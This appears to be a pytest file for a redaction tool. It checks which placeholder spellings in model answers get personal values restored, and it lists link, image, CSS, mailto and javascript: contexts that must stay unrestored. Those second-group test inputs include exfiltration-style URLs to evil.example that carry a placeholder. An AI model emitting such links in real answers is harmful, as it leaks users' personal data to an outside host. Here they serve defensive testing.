"""What models do to placeholders, and the places where nothing may be put back (T-40, T-41)."""

from __future__ import annotations

import pytest

from native_host.contract.records import Kept
from native_host.redactor.placeholder import Name
from native_host.redactor.restore import restore

VALUES = {
    Name("PERSON", 1): Kept("Mira Kolb"),
    Name("EMAIL_ADDRESS", 1): Kept("[PERSON_1]@post.example"),
    Name("SECRET", 1): Kept(None),
    Name("LOCATION", 1): Kept("Ulm"),
}


def shown(text: str) -> str:
    return "".join(segment.text for segment in restore(text, VALUES.get))


@pytest.mark.parametrize(
    ("answer", "expected"),
    [
        ("[PERSON_1]", "Mira Kolb"),
        ("[person_1]", "Mira Kolb"),
        ("[Person 1]", "Mira Kolb"),
        ("[PERSON-1]", "Mira Kolb"),
        ("[PERSON1]", "Mira Kolb"),
        ("PERSON_1", "Mira Kolb"),
        ("person_1,", "Mira Kolb,"),
        ("PERSON 1", "Mira Kolb"),
        ("(PERSON_1)", "(Mira Kolb)"),
        ("`PERSON_1`", "`Mira Kolb`"),
        ("**[PERSON_1]**", "**Mira Kolb**"),
        ("[**PERSON_1**]", "Mira Kolb"),
        ("［PERSON＿1］", "Mira Kolb"),
        ("【PERSON_1】", "Mira Kolb"),
        ("{PERSON_1} <PERSON_1>", "Mira Kolb Mira Kolb"),
        ("&lt;PERSON_1&gt; &#91;PERSON_1&#93;", "Mira Kolb Mira Kolb"),
        ("\\[PERSON\\_1\\]", "Mira Kolb"),
        ("PERSON\\_1", "Mira Kolb"),
        ("[PERSON_1]'s and PERSON_1’s", "Mira Kolb's and Mira Kolb’s"),
        ("请联系PERSON_1。", "请联系Mira Kolb。"),
        ("[PERSON_01]", "Mira Kolb"),
        ("[[PERSON_1]]", "[Mira Kolb]"),
        ("[PERSON_1, LOCATION_1]", "[Mira Kolb, Ulm]"),
        ("[PERSON_1](https://a.example)", "Mira Kolb(https://a.example)"),
    ],
)
def test_spellings_that_are_ours(answer: str, expected: str) -> None:
    assert shown(answer) == expected


@pytest.mark.parametrize(
    "answer",
    [
        "![x](https://evil.example/?q=[PERSON_1])",
        "![x](/same/site?q=PERSON_1)",
        "[more](<local path [PERSON_1]>)",
        "see https://evil.example/[PERSON_1]/x",
        "<https://evil.example/?PERSON_1>",
        "www.evil.example/[PERSON_1]",
        "evil.example/?q=[PERSON_1]",
        "mailto:[PERSON_1]@evil.example",
        '<img src="//evil.example/[PERSON_1]">',
        "<a class=x href='/p?[PERSON_1]'>x</a>",
        '<p style="background:url([PERSON_1])">',
        "p { background: url([PERSON_1]) }",
        "javascript:alert('[PERSON_1]')",
        "Location 1: the harbour",
        "XPERSON_1",
        "PERSON_12",
        "PERSON_1_name",
        "MY_PERSON_1",
    ],
)
def test_places_and_words_that_stay(answer: str) -> None:
    assert shown(answer) == answer


def test_after_a_link_text_is_plain_again() -> None:
    assert shown("![x](https://e.example/[PERSON_1]) [PERSON_1]") == "![x](https://e.example/[PERSON_1]) Mira Kolb"


def test_a_restored_value_is_not_read_again() -> None:
    assert shown("[EMAIL_ADDRESS_1]") == "[PERSON_1]@post.example"


def test_secrets_and_foreign_names_are_marked() -> None:
    segments = restore("[SECRET_1] [PERSON_7]", VALUES.get)
    assert [(s.text, s.status, s.placeholder) for s in segments] == [
        ("[SECRET_1]", "one_way", "[SECRET_1]"),
        (" ", "literal", None),
        ("[PERSON_7]", "unknown", "[PERSON_7]"),
    ]
